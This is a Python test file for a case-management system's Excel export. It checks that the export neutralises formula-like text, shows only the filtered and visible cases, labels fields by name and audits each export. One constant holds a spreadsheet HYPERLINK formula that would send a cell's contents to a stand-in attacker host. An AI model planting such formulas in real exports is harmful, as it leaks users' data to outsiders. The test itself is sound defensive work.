"""Excel export: the filtered, visible list; formula-looking text stays text; every export is audited."""

from __future__ import annotations

from io import BytesIO
from urllib.parse import quote

from openpyxl import load_workbook

from integrity.domain.cases.clocks import local_today
from integrity.domain.cases.export import safe_cell
from tests.conftest import DemoApp, new_client
from tests.support.cases import register
from tests.support.helpers import audit_events, close, sql

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'


def test_formula_like_text_is_neutralised() -> None:
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("+86 138") == "'+86 138"
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("公车私用") == "公车私用"
    assert safe_cell(42) == 42


async def test_export_holds_the_visible_filtered_cases_as_plain_text(demo_app: DemoApp) -> None:
    inspector = await new_client(demo_app, "li.na")
    evil = await register(inspector, demo_app, title=EVIL)
    # As the list page's link sends it: empty fields mean "any".
    response = await inspector.get(
        "/api/v1/cases/export.xlsx", params={"q": "点此查看", "status": "", "clock": ""}
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    today = local_today().isoformat()
    assert f"filename*=UTF-8''{quote(f'案件台账-{today}.xlsx')}" in disposition
    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet is not None
    assert sheet.title == "案件台账"
    assert sheet.freeze_panes == "A2"
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == (
        "案件编号", "标题", "单位", "状态", "问题类别", "线索来源",
        "收到日期", "保密", "被反映人", "承办人", "时限",
    )  # fmt: skip
    assert [r[0] for r in rows[1:]] == [evil["number"]]
    # labels, not codes: the demo's catalogue names its category and source; the subject by name
    row = dict(zip(rows[0], rows[1], strict=True))
    names = dict(await sql(demo_app, "SELECT catalogue || ':' || code, name FROM catalogue_items"))
    assert row["问题类别"] == names["case_category:eight_point_rules"]
    assert row["线索来源"] == names["case_source:letters_visits"]
    assert row["被反映人"] == "马俊"
    assert row["状态"] == "受理登记"  # received: its status label, not the code
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["H"].width
    title_cell = sheet.cell(row=2, column=2)
    assert title_cell.value == "'" + EVIL
    assert title_cell.data_type == "s"
    assert await audit_events(demo_app, action="case.export")

    relative = await new_client(demo_app, "zhang.wei")
    hidden = await register(relative, demo_app, subjects=("HXP0601",), title="李明的线索不应导出")
    li_na_export = await inspector.get("/api/v1/cases/export.xlsx", params={"q": "不应导出"})
    numbers = [
        r[0]
        for r in list(load_workbook(BytesIO(li_na_export.content)).active.iter_rows(values_only=True))[1:]
    ]  # type: ignore[union-attr]
    assert hidden["number"] not in numbers
    await close(inspector)
    await close(relative)
